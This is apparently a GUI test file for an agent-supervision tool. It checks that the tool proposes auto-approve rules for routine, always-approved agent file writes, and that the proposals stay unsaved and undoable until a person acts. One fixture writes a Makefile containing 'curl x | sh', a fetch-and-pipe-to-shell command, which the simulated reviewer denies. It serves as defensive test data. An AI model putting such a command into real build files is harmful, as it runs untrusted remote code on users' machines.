"""Needless questions in the app: the inbox's strip and its Review, the Policy page's
"Questions asked" tab and its "Add this rule"; nothing is saved without a person."""

from __future__ import annotations

from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest
from PySide6.QtCore import Qt
from pytestqt.qtbot import QtBot

from foundry.agent.document import AgentDocument
from foundry.supervision.needless import NeedlessReport, QuestionCounts
from foundry.ui.bridge import EngineBridge
from foundry.ui.editor import AgentEditor
from foundry.ui.inbox.needless import strip_text
from tests.supervision.needless_agent import (
    APPROVE,
    ASKING,
    DENY,
    asked,
    careful_agent,
    routine_notes,
    write,
)

from .conftest import save_screenshot, shown_main_window
from .test_inbox import CTRL_SHIFT

pytestmark = pytest.mark.usefixtures("gui_loop")
STRIP = "5 of your last 7 questions were approved unchanged: 1 rule would have settled 4 of them."


def history(bridge: EngineBridge, tmp_path: Path) -> AgentDocument:
    """Four routine writes to notes/ approved as asked; a Makefile and a git hook denied, a
    package.json approved once (on a thread: the GUI's loop is not for a gate's)."""
    agent = careful_agent(tmp_path)
    (agent.base_dir / ".git" / "hooks").mkdir(parents=True)
    calls = [
        *routine_notes(4),
        (write("Makefile", "all:\n\tcurl x | sh\n"), DENY),
        (write("package.json", "{}"), APPROVE),
        (write(".git/hooks/pre-commit", "#!/bin/sh\n"), DENY),
    ]
    with ThreadPoolExecutor(1) as pool:
        pool.submit(asked, bridge.engine.store, agent, calls).result()
    return agent


def proposal_names(editor: AgentEditor) -> list[str]:
    config = editor.controller.policy.config
    assert config is not None
    return [rule.name for rule in config.rules]


def test_the_inbox_strip_reviews_the_proposal_in_the_policy_page_unsaved(
    qtbot: QtBot, bridge: EngineBridge, tmp_path: Path
) -> None:
    agent = history(bridge, tmp_path)
    before = (agent.base_dir / "tsagent.json").read_text()
    window = shown_main_window(qtbot, bridge, (1360, 860))
    window.activateWindow()
    qtbot.waitUntil(window.isActiveWindow)
    qtbot.keyClick(window, Qt.Key.Key_I, CTRL_SHIFT)
    strip = window.inbox.needless
    qtbot.waitUntil(lambda: strip.isVisible() and STRIP in strip.text.text(), timeout=20000)
    assert strip.review.isVisible()
    save_screenshot(window, tmp_path, "inbox-needless-questions.png")
    strip.review.click()
    qtbot.waitUntil(lambda: isinstance(window.tabs.currentWidget(), AgentEditor), timeout=10000)
    editor = window.tabs.currentWidget()
    assert isinstance(editor, AgentEditor)
    assert editor.pages.currentWidget() is editor.policy
    names = proposal_names(editor)
    added = names.index("routine-fs-write_file-in-notes")
    assert names[added + 1] == ASKING
    assert editor.modified and (agent.base_dir / "tsagent.json").read_text() == before
    panel = editor.policy.questions
    assert editor.policy.details.currentWidget() is editor.policy.questions_tab
    assert panel.counts_model.rowCount() == 3 and panel.proposals_model.rowCount() == 1
    summary = editor.policy.try_panel.replay_summary
    qtbot.waitUntil(lambda: bool(summary.text()) and "…" not in summary.text(), timeout=10000)
    save_screenshot(editor, tmp_path, "policy-questions-asked.png")
    editor.undo_action.trigger()
    assert "routine-fs-write_file-in-notes" not in proposal_names(editor)


def test_the_questions_tab_counts_off_the_gui_thread_and_adds_a_rule_undoably(
    qtbot: QtBot, bridge: EngineBridge, tmp_path: Path
) -> None:
    agent = history(bridge, tmp_path)
    window = shown_main_window(qtbot, bridge, (1360, 860))
    editor = window.editors.open_editor(agent)
    editor.show_section("Policy")
    details, panel = editor.policy.details, editor.policy.questions
    details.setCurrentWidget(editor.policy.questions_tab)
    qtbot.waitUntil(lambda: panel.proposals_model.rowCount() == 1, timeout=20000)
    counts = panel.counts_model
    row = [counts.index(0, column).data() for column in range(counts.columnCount())]
    assert row[:6] == [ASKING, "fs.write_file", "4", "4", "0", "0"]
    assert "settled 4 of the questions" in panel.detail.text()
    assert panel.add_rule.isEnabled()
    panel.add_rule.click()
    names = proposal_names(editor)
    assert names[names.index("routine-fs-write_file-in-notes") + 1] == ASKING
    assert editor.modified
    editor.undo_action.trigger()
    assert "routine-fs-write_file-in-notes" not in proposal_names(editor)


def test_the_strip_stays_hidden_while_no_rule_is_proposed() -> None:
    """A question approved once, or many with a denial among them, is no news for the inbox:
    the Policy page's Questions asked has the figures."""
    counts = QuestionCounts(
        agent="notes-keeper",
        tool="fs.write_file",
        rule="writing-inside-the-workspace",
        asked=1,
        unchanged=1,
        edited=0,
        denied=0,
        flagged=0,
        timed_out=0,
    )
    report = NeedlessReport(counts=[counts], proposals=[])
    assert strip_text([(Path("notes-keeper"), report)]) is None
    assert report.summary() == (
        "1 of your last 1 question was approved unchanged; no narrow rule would settle it."
    )
